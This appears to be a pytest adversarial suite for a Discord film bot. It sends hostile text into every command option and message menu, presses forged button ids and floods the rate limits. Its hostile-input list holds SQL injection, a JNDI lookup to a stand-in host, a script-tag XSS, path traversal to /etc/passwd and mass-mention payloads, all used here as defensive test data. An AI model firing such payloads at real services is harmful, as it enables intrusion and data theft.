"""The adversarial suite: what a hostile member, a flood or an unlucky operator does to a running bot.

This module adds what the others do not: hostile text in every free-text option of every registered command (the
options discovered from what the bot registered, so a new option is swept without editing this file), forged ids
for every kind of component with the whole store compared before and after, a write flood against the limits, an
/ask flood beside members using the bot normally, and interactions that expire before their answer. Corrupting
every page of a small database and deleting the file under a running bot are in ``test_database_safety``; forged ids
case by case in ``test_forged_ids_e2e``; markup and control characters option by option in
``test_member_text_e2e``; bad values past Discord's client in ``test_bad_input_flood``. ``pytest -m adversarial``
runs all of them (``conftest.ADVERSARIAL``).

Everywhere: no traceback and no ERROR in the log (``no_tracebacks``), no "Something went wrong", nothing that
would ping, no rule of Discord broken (the ``discord_api`` fixture), and markup from members never live.
"""

from __future__ import annotations

import asyncio
import logging
import re
import sqlite3
from collections import Counter
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import discord
import pytest
from test_member_text_e2e import CONTROLS, LIVE, MARKUP, everything
from test_theories_e2e import THREE, open_poll, poll_number

from bot.client import StrangersBot
from bot.component_ids import _REVEAL_ARGUMENTS
from bot.limits import (
    HEAVY_AT_ONCE,
    POLLS,
    SUGGESTIONS,
    WAITING_PER_MEMBER,
    WAITING_PER_SERVER,
)
from bot.models import Review
from bot.overload import is_expiry
from bot.render import errors
from bot.render.errors import SORRY
from bot.store import Store
from bot.store.errors import QueueFull
from standin import Reply, StandIn

BIG = "99999999999999999999"
STRING = 3  # Discord's option type for text
SUBCOMMANDS = (1, 2)
FILLERS = {"title": "A title of its own", "claim": "A claim that is long enough to count."}


# -- the guard: no traceback, no error, anywhere in the log ---------------------------------------------------------


class Failing(logging.Handler):
    """Keeps every ERROR record (with or without a traceback): the suite fails on any."""

    def __init__(self) -> None:
        super().__init__(logging.ERROR)
        self.records: list[logging.LogRecord] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.records.append(record)


@pytest.fixture(autouse=True)
def no_tracebacks() -> Iterator[Failing]:
    handler = Failing()
    root = logging.getLogger()
    root.addHandler(handler)
    try:
        yield handler
    finally:
        root.removeHandler(handler)
    shown = [f"{r.name}: {r.getMessage()}" + (" (with a traceback)" if r.exc_info else "") for r in handler.records]
    assert not shown, "errors were logged:\n" + "\n".join(shown)


# -- hostile text ---------------------------------------------------------------------------------------------------

HOSTILE: dict[str, list[str]] = {
    "control characters": [
        *CONTROLS.values(),
        "bell\x07 harry",
        "harry\x7f adam",
        "line\x0bseparated",
    ],
    "markup": [v for text in MARKUP.values() for v in (text, f"{text} adam", f"who is {text}")],
    "injection": [
        "'; DROP TABLE member_theories; --",
        "1 OR 1=1",
        'NEAR("harry" "adam", 2)',
        '"unbalanced (quote',
        "harry* AND ^adam OR NOT x",
        "{0.__class__.__mro__}",
        "%s %d %n",
        "${jndi:ldap://evil.test/a}",
        "<script>alert(1)</script>",
        "../../../etc/passwd",
        "None",
        "null",
        '{"json": [1, 2]}',
        "member:99999999999999999999",
        f"member:{BIG}, member:-1, member:0",
        "\\||\\*\\*",
    ],
    "sizes and shapes": [
        "",
        " ",
        "\n\n\n",
        "\t\t",
        "x" * 5000,
        "a" * 201,
        "word " * 400,
        "🎬" * 100,
        "ｗｈｏ ｐｌａｙｓ ｈａｒｒｙ",
        "H̷̛a̶r̸r̵y̶ z̸a̷l̶g̴o̵",
        "𝐡𝐚𝐫𝐫𝐲 𝔞𝔡𝔞𝔪",
        "0",
        "-1",
        BIG,
        "1e309",
        ",,,,,,,,",
    ],
    "mentions": ["@everyone", "@here harry", "<@123456789012345678>", "<@&123456789012345678>", "<#1>", "</ask:1>"],
}


def filler(option: dict[str, Any]) -> Any:
    """A plain valid value for a required option beside the one under attack (by its type)."""
    if option.get("choices"):
        return option["choices"][0]["value"]
    return {STRING: FILLERS.get(option["name"], "a plain value"), 4: 1, 5: False, 7: "ending-talk"}[option["type"]]


def free_text_options(api: StandIn) -> list[tuple[str, str, dict[str, Any], bool]]:
    """(command path, option, other required options filled, moderator command?) for every text option the bot
    registered, at any depth of subcommands."""
    found: list[tuple[str, str, dict[str, Any], bool]] = []

    def walk(path: str, options: list[dict[str, Any]], moderator: bool) -> None:
        leaves = [o for o in options if o["type"] not in SUBCOMMANDS]
        for option in options:
            if option["type"] in SUBCOMMANDS:
                walk(f"{path} {option['name']}", option.get("options") or [], moderator)
        for option in leaves:
            if option["type"] != STRING:
                continue
            others = {f"{o['name']}_": filler(o) for o in leaves if o.get("required") and o["name"] != option["name"]}
            found.append((path, option["name"], others, moderator))

    for command in api.global_commands:
        if command.get("type", 1) == 1:
            walk(command["name"], command.get("options") or [], command.get("default_member_permissions") is not None)
    return found


def outcome(reply: Reply) -> str:
    if reply.ephemeral and reply.content.startswith("Your ") and " contains " in reply.content:
        return "refused: character named"
    if reply.content == errors.NOT_A_CHOICE:
        return "refused: not a choice"
    return "answered privately" if reply.ephemeral else "answered in the channel"


def control_free(text: str) -> bool:
    return not any(c in text for c in "\x00\x07\x0b\x1b\x7f\u202e\u2066\u2069") and "\ud83d" not in text


async def test_hostile_text_in_every_free_text_option_of_every_command(bot: StrangersBot, discord_api: StandIn) -> None:
    options = free_text_options(discord_api)
    named = {(c, o) for c, o, _, _ in options}
    assert {("ask", "question"), ("theory suggest", "title"), ("theory suggest", "claim")} <= named
    assert {("theory poll", "theories"), ("quote", "search"), ("plot", "moment")} <= named

    tally: Counter[tuple[str, str]] = Counter()
    sent = 0
    for index, (command, option, others, moderator) in enumerate(options):
        for category, texts in HOSTILE.items():
            for number, text in enumerate(texts):
                # each input from a member of its own, so the write limits don't hide what the text does
                user = discord_api.world.moderator if moderator else discord_api.world.add_member(f"h{index}-{sent}")
                values = {**others, f"{option}_": text}  # a trailing _ names an option (see Driver.slash)
                reply = await discord_api.slash(
                    command, user=user, channel="ending-talk", past_the_client=True, **values
                )
                sent += 1
                where = f"/{command} {option}={text[:60]!r}"
                assert reply.complete and not reply.expired, where
                shown = everything(reply)
                assert SORRY not in shown and shown.strip(), where
                assert control_free(shown), f"{where}: a control character shown back"
                if category == "markup":
                    kind = list(MARKUP)[number // 3]
                    assert not LIVE[kind].search(shown), f"{where}: live markup in {shown!r}"
                if text in CONTROLS.values():
                    assert reply.ephemeral, where  # refused privately (the character named, or not a choice)
                tally[category, outcome(reply)] += 1

    stored = await bot.store.member_theories(discord_api.guild.id, Review.PENDING)
    assert all(control_free(t.title) and control_free(t.claim) for t in stored)
    assert sent >= 500 and sent == sum(tally.values())
    print(f"\n{sent} hostile inputs over {len(options)} free-text options; stored suggestions: {len(stored)}")
    for (category, result), count in sorted(tally.items()):
        print(f"  {category:20} {result:28} {count}")


async def test_hostile_messages_under_every_message_menu(bot: StrangersBot, discord_api: StandIn) -> None:
    """The message menus read a member's message: "Ask about this" answers it privately (markup never live), "Hide
    spoilers" re-posts it in spoiler bars; neither fails on any hostile message, nor pings anyone."""
    menus = [c["name"] for c in discord_api.global_commands if c.get("type") == 3]
    assert sorted(menus) == ["Ask about this", "Hide spoilers"]
    mod = discord_api.world.moderator
    sent = 0
    for category, texts in HOSTILE.items():
        for number, text in enumerate(texts):
            for menu in menus:
                author = discord_api.world.add_member(f"author{sent}")
                message = discord_api.post(text, user=author, channel="ending-talk")
                reply = await discord_api.menu(menu, message, user=mod)
                sent += 1
                shown = everything(reply)
                where = f"{menu} on {text[:60]!r}"
                assert reply.complete and reply.ephemeral and SORRY not in shown and shown.strip(), where
                if category == "markup" and menu == "Ask about this":
                    assert not LIVE[list(MARKUP)[number // 3]].search(shown), f"{where}: live markup in {shown!r}"
    assert sent == 2 * sum(len(t) for t in HOSTILE.values())


# -- forged ids of every kind of component, the whole store compared ----------------------------------------------


def snapshot(database: Path) -> list[str]:
    """Every row of every table, as SQL (a second, read-only connection: what is committed)."""
    connection = sqlite3.connect(f"file:{database}?mode=ro", uri=True)
    try:
        return list(connection.iterdump())
    finally:
        connection.close()


def forged_ids(guild: int, other_guild: int, poll: int, other_poll: int, theory: int) -> dict[str, list[str]]:
    reveal = {
        f"reveal:{kind}": [
            f"reveal:{kind}:{BIG}",
            f"reveal:{kind}:../../etc",
            f"reveal:{kind}:",
            f"reveal:{kind}:{other_guild}",
            f"reveal:{kind}:{other_guild}:member:{theory}",
            f"reveal:{kind}:{guild}:member:{BIG}",
            f"reveal:{kind}:x" + "y" * 120,
        ]
        for kind in _REVEAL_ARGUMENTS
    }
    return {
        "vote": [
            f"poll:{other_poll}:1",
            f"poll:{BIG}:1",
            f"poll:{poll}:{BIG}",
            f"poll:{poll}:0",
            f"poll:{poll}:11",
            f"poll:0{poll}:1",
            f"poll:-{poll}:1",
            f"poll:{poll}:1:extra",
            "poll:１:1",
            f" poll:{poll}:1",
            "poll:" + "9" * 120,
        ],
        "review": [
            f"theory:review:{theory}:approve",
            f"theory:review:{theory}:reject",
            f"theory:review:{BIG}:approve",
            f"theory:review:{theory}:delete",
            f"theory:review:0{theory}:approve",
            "theory:review:",
        ],
        **reveal,
        "unknown": ["", "admin:delete-everything", "\u202epoll:1:1", "poll:1:1\x00", "x" * 100],
    }


async def press_forged(api: StandIn, message: dict, custom_id: str, user: Any) -> Reply:
    from test_forged_ids_e2e import press_forged as press

    return await press(api, message, custom_id, user)


async def test_forged_ids_of_every_kind_change_nothing(bot: StrangersBot, discord_api: StandIn, settings: Any) -> None:
    member, mod = discord_api.world.member, discord_api.world.moderator
    guild = discord_api.guild.id
    other = discord_api.world.add_guild("Another server")
    await discord_api.slash("theory suggest", title="Harry is a memory", claim="Harry is a memory of someone else.")
    theory = (await bot.store.member_theories(guild, Review.PENDING))[0]
    first = await open_poll(discord_api, bot, theories=THREE)
    second = await open_poll(discord_api, bot, theories=THREE, hidden_results=True)
    card = await discord_api.slash("film", channel="general")
    review = await discord_api.slash("theory review", user=mod)
    poll, other_poll = poll_number(second.message), poll_number(first.message)
    targets = [second.message, card.message, review.message]

    before_store = snapshot(settings.database_path)
    before_messages = {k: dict(v) for k, v in discord_api.messages.items()}
    kinds = forged_ids(guild, other.id, poll, other_poll, theory.id)
    pressed: Counter[str] = Counter()
    for kind, ids in kinds.items():
        for custom_id in ids:
            for target in targets:
                for user in (member, mod) if kind in ("review", "vote") else (member,):
                    if kind == "review" and user is mod and custom_id.endswith((":approve", ":reject")):
                        if custom_id.startswith(f"theory:review:{theory.id}:"):
                            continue  # the real review button, pressed by a moderator: not forged
                    reply = await press_forged(discord_api, target, custom_id, user)
                    assert reply.complete and reply.callback_type == 4 and reply.ephemeral, (custom_id, reply.text)
                    assert SORRY not in reply.text and reply.followups == [], custom_id
                    pressed[kind] += 1
    assert snapshot(settings.database_path) == before_store, "a forged id changed the store"
    assert {k: dict(v) for k, v in discord_api.messages.items()} == before_messages, "a forged id changed a message"
    total = sum(pressed.values())
    kinds_pressed = sorted({k.split(":")[0] if k.startswith("reveal") else k for k in pressed})
    assert kinds_pressed == ["reveal", "review", "unknown", "vote"] and len(pressed) == 3 + len(_REVEAL_ARGUMENTS)
    print(f"\n{total} forged presses: " + ", ".join(f"{k} {n}" for k, n in sorted(pressed.items())))


# -- a write flood against the limits -------------------------------------------------------------------------------


def suggestion_number(reply: Reply) -> int | None:
    found = re.search(r"suggestion #(\d+)", reply.content)
    return int(found[1]) if found else None


async def test_a_write_flood_is_limited_and_no_acknowledged_write_is_lost(
    bot: StrangersBot, discord_api: StandIn
) -> None:
    guild, flooder = discord_api.guild.id, discord_api.world.member

    async def suggest(user: Any, n: int) -> Reply:
        return await discord_api.slash(
            "theory suggest", user=user, title=f"Flood theory {n}", claim=f"Claim number {n}, long enough.", timeout=60
        )

    # one member, 150 suggestions at once: the window lets 3 through, the rest are told how long to wait
    replies = await asyncio.gather(*(suggest(flooder, n) for n in range(150)))
    accepted = [r for r in replies if suggestion_number(r) is not None]
    assert len(accepted) == SUGGESTIONS
    for reply in replies:
        assert reply.complete and reply.ephemeral and SORRY not in reply.text
        assert reply in accepted or reply.content.startswith(f"You have suggested {SUGGESTIONS} theories")

    # 60 more members at once: the server's queue fills to its cap, and not one beyond it
    members = [discord_api.world.add_member(f"writer{i}") for i in range(60)]
    crowd = await asyncio.gather(*(suggest(m, 1000 + i) for i, m in enumerate(members)))
    accepted += [r for r in crowd if suggestion_number(r) is not None]
    assert len(accepted) == WAITING_PER_SERVER
    refused = [r for r in crowd if suggestion_number(r) is None]
    assert all(r.content == errors.too_many_waiting_here(WAITING_PER_SERVER) for r in refused)

    # every acknowledged suggestion is stored, as acknowledged
    stored = {t.id: t for t in await bot.store.member_theories(guild, Review.PENDING)}
    assert len(stored) == WAITING_PER_SERVER
    for reply in accepted:
        number = suggestion_number(reply)
        assert number in stored

    # a moderator's 20 polls at once: the window lets some through, each one posted and stored
    completed: list[int] = []
    all_done = asyncio.Event()

    async def on_app_command_completion(interaction: Any, command: Any) -> None:
        if command.qualified_name == "theory poll":
            completed.append(interaction.id)
            if len(completed) == POLLS:
                all_done.set()

    bot.add_listener(on_app_command_completion)
    polls = await asyncio.gather(
        *(
            discord_api.slash("theory poll", user=discord_api.world.moderator, theories=THREE, timeout=60)
            for _ in range(20)
        )
    )
    opened = [r for r in polls if not r.ephemeral]
    assert len(opened) == POLLS
    assert all(r.content.startswith(f"You have opened {POLLS} polls") for r in polls if r.ephemeral)
    await asyncio.wait_for(all_done.wait(), 60)  # each opened poll has its message recorded and its thread opened
    bot.remove_listener(on_app_command_completion)
    assert len(await bot.store.poll_summaries(guild, limit=100)) == POLLS


async def test_the_member_cap_holds_under_concurrent_writes(store: Store) -> None:
    from datetime import UTC, datetime

    now = datetime(2026, 11, 23, tzinfo=UTC)
    caps = (WAITING_PER_MEMBER, WAITING_PER_SERVER)

    async def add(n: int) -> bool:
        try:
            return await store.add_member_theory(1, f"Title {n}", "A claim long enough.", 7, now, caps=caps) is not None
        except QueueFull as full:
            assert (full.mine, full.everyone) == (WAITING_PER_MEMBER, WAITING_PER_MEMBER)
            return False

    added = await asyncio.gather(*(add(n) for n in range(40)))
    assert sum(added) == WAITING_PER_MEMBER
    assert await store.waiting_counts(1, 7) == (WAITING_PER_MEMBER, WAITING_PER_MEMBER)
    assert await store.waiting_counts(1, 8) == (0, WAITING_PER_MEMBER)


# -- an /ask flood beside members using the bot, and interactions that expire -------------------------------------


def callbacks(api: StandIn, reply: Reply) -> int:
    """How many first responses the bot attempted for one interaction."""
    path = f"/interactions/{reply.interaction_id}/"
    return sum(1 for method, p in api.calls if method == "POST" and p.startswith(path))


async def test_an_ask_flood_from_one_member_does_not_starve_the_others(bot: StrangersBot, discord_api: StandIn) -> None:
    flooder = discord_api.world.add_member("flooder")
    others = [discord_api.world.add_member(f"reader{i}") for i in range(4)]

    async def flood() -> list[Reply]:
        return await asyncio.gather(
            *(discord_api.slash("ask", user=flooder, question=f"who plays harry {n}", timeout=60) for n in range(150))
        )

    async def reader(user: Any) -> list[Reply]:
        done = []
        for n in range(5):
            done.append(await discord_api.slash("film", user=user, timeout=60))
            done.append(await discord_api.slash("ask", user=user, question=f"what song plays {n}", timeout=60))
        return done

    flooded, *read = await asyncio.gather(flood(), *(reader(u) for u in others))
    for reply in (r for replies in read for r in replies):
        assert reply.complete and not reply.expired and SORRY not in reply.text
    busy = errors.still_answering(HEAVY_AT_ONCE)
    outcomes = Counter(
        "answered" if r.complete and r.content != busy else "refused: still answering" if r.complete else "expired"
        for r in flooded
    )
    assert outcomes["answered"] >= HEAVY_AT_ONCE and outcomes["refused: still answering"] > 0
    assert all(callbacks(discord_api, r) <= 1 for r in flooded), "an interaction was answered more than once"
    assert bot.limits.refused_heavy == outcomes["refused: still answering"]
    assert bot.limits.expired == outcomes["expired"]
    print(f"\n/ask flood of 150 beside 4 members (40 interactions, all answered): {dict(outcomes)}")


async def test_an_expired_interaction_is_never_answered_again_and_is_logged_once(
    bot: StrangersBot, discord_api: StandIn, caplog: pytest.LogCaptureFixture
) -> None:
    discord_api.ack_deadline = 0.0  # every first answer arrives after Discord's deadline
    commands = [("film", {}), ("ask", {"question": "who plays harry"}), ("quote", {}), ("theory list", {})]
    commands += [("theory show", {"theory": "nothing like this"}), ("plot", {"moment": "no such moment"})]
    with caplog.at_level(logging.WARNING, logger="bot.overload"):
        replies = [await discord_api.slash(c, **o) for c, o in commands * 5]
        await asyncio.sleep(0.05)
    assert all(r.expired and not r.complete for r in replies)
    assert all(callbacks(discord_api, r) == 1 for r in replies), "a dead interaction was answered twice"
    assert not any(p.startswith("/webhooks/") for _, p in discord_api.calls), "a follow-up went to a dead interaction"
    lines = [r for r in caplog.records if r.name == "bot.overload"]
    assert len(lines) == len(replies) == bot.limits.expired
    assert all("expired" in r.getMessage() and r.exc_info is None for r in lines)
    assert discord_api.late_responses == len(replies)


async def test_a_follow_up_after_fifteen_minutes_is_refused_as_discord_does(
    bot: StrangersBot, discord_api: StandIn
) -> None:
    reply = await discord_api.slash("film")
    discord_api.followup_window = 0.0  # the token's 15 minutes are over
    webhook = discord.Webhook.partial(discord_api.world.application_id, reply.token, client=bot)
    with pytest.raises(discord.HTTPException) as refused:
        await webhook.send("late")
    assert refused.value.status == 401 and refused.value.code == 50027 and is_expiry(refused.value)
    assert discord_api.expired_token_uses == 1
